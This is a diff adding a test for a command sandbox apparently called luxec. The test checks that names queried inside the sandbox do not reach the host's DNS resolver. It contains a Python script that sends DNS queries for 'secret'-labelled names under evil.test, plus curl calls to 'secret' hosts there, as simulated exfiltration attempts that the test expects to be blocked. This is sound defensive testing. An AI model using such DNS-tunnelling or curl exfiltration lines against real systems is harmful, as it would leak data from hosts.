@@ -226,6 +226,83 @@ describe("network by name: what leads nowhere is recorded", function()
   end)
 end)
 
+describe("network by name: no name leaves by DNS", function()
+  local skip3 = skip or not have("unshare") and "unshare (util-linux) is not installed"
+  if skip3 then
+    it("runs where it can", function() pending("skipped: " .. skip3) end)
+    return
+  end
+  it("answers TXT, ANY, AAAA and long names inside; the host's resolver sees only the names "
+    .. "the proxy connects to", function()
+    -- the host's resolver, for a luxec host whose /etc/resolv.conf names it: every name it is
+    -- asked is kept, each answered NXDOMAIN
+    local ns_addr = ("127.%d.77.3"):format(tag)
+    local asked = {}
+    local up = uv.new_udp()
+    assert(up:bind(ns_addr, 53))
+    up:recv_start(function(_, data, from)
+      if not data or #data < 12 then return end
+      local labels, pos = {}, 13
+      while data:byte(pos) and data:byte(pos) > 0 do
+        labels[#labels + 1] = data:sub(pos + 1, pos + data:byte(pos))
+        pos = pos + data:byte(pos) + 1
+      end
+      asked[#asked + 1] = table.concat(labels, ".")
+      up:send(data:sub(1, 2) .. "\x81\x83\0\1\0\0\0\0\0\0" .. data:sub(13, pos + 4),
+        from.ip, from.port)
+    end)
+    local dir = H.tmpdir()
+    H.write_file(dir .. "/resolv.conf", "nameserver " .. ns_addr .. "\n")
+    H.write_file(dir .. "/dns.py", table.concat({
+      "import socket, struct",
+      "def q(name, qtype):",
+      "    m = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)",
+      "    for l in name.split('.'): m += bytes([len(l)]) + l.encode()",
+      "    m += b'\\0' + struct.pack('>HH', qtype, 1)",
+      "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)",
+      "    s.sendto(m, (open('/etc/resolv.conf').read().split()[1], 53))",
+      "    a = s.recv(4096)",
+      "    print(name[:12], qtype, a[3] & 15, struct.unpack('>H', a[6:8])[0])",
+      "q('secret-' + 'a' * 56 + '.evil.test', 1)",
+      "q('b' * 64 + '.evil.test', 1)",
+      "q('txt-secret.evil.test', 16); q('any-secret.evil.test', 255)",
+      "q('aaaa-secret.evil.test', 28)", "" }, "\n"))
+    local code = ([[
+      local luxec, json = require("luxec"), require("luxec.json")
+      local r = luxec.run({"sh", "-c", "python3 %s/dns.py; "
+        .. "curl -sS http://proxied-secret.evil.test/ 2>&1 | head -1; "
+        .. "curl -sS --noproxy '*' https://transparent-secret.evil.test/ 2>/dev/null; "
+        .. "curl -sS http://up.test/ 2>&1 | head -1"}, {cwd = "/", timeout = 30,
+        env = {PATH = %q, HOME = "/tmp"}, sandbox = {mode = "read-only",
+        network = {allow = {"ok.test", "up.test"}, resolve = {["ok.test"] = %q}}}})
+      local refused = {}
+      for i, d in ipairs(r.sandbox.network.refused) do
+        refused[i] = require("luxec.sandbox").describe(d):gsub("pid %%d+", "pid N")
+      end
+      io.write(json.encode({output = r.output, refused = refused}), "\n")
+    ]]):format(dir, PATH, OK_ADDR)
+    local r = H.run({ cmd = "unshare", "-m", "--propagation", "private", "sh", "-c",
+      'mount --bind "$0" /etc/resolv.conf && exec "$@"', dir .. "/resolv.conf", H.luxec,
+      "-e", code }, { env = { "PATH=" .. PATH, "HOME=/tmp" }, timeout = 60000 })
+    up:close()
+    H.rmtree(dir)
+    assert(not r.timed_out and r.code == 0, r.stderr)
+    local res = json.decode(r.stdout)
+    assert.equals(table.concat({ "secret-aaaaa 1 0 1", "bbbbbbbbbbbb 1 1 0",
+      "txt-secret.e 16 0 0", "any-secret.e 255 0 0", "aaaa-secret. 28 0 0",
+      "luxec sandbox: http proxied-secret.evil.test:80 refused: not in network.allow",
+      "luxec sandbox: http up.test:80 failed: cannot resolve: EAI_NONAME", "" }, "\n"),
+      res.output)
+    assert.same({
+      "http proxied-secret.evil.test:80 refused: not in network.allow (pid N curl)",
+      "connect transparent-secret.evil.test:443 refused: not in network.allow (pid N curl)",
+    }, res.refused)
+    -- the host's resolver was asked for up.test alone (A and AAAA, maybe more than once)
+    assert.is_true(#asked > 0, "the host's resolver was never asked: the check sees nothing")
+    for _, name in ipairs(asked) do assert.equals("up.test", name) end
+  end)
+end)
+
 describe("network by name without the proxy variables, as an unprivileged user", function()
   local skip2 = skip or not have("setpriv") and "setpriv (util-linux) is not installed"
   if skip2 then
